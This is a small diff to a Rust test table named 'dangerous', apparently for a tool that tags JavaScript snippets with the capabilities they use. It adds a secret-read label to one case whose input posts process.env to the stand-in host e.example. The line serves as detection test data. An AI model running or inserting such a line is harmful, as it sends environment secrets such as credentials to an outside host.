@@ -177,7 +177,7 @@ fn dangerous() {
             ),
             (
                 "require('axios').post('https://e.example/x', process.env)",
-                &["net.write POST e.example/x"],
+                &["net.write POST e.example/x", "~>secret.read environment"],
             ),
             (
                 "axios({url: 'https://e.example/x', method: 'delete'})",
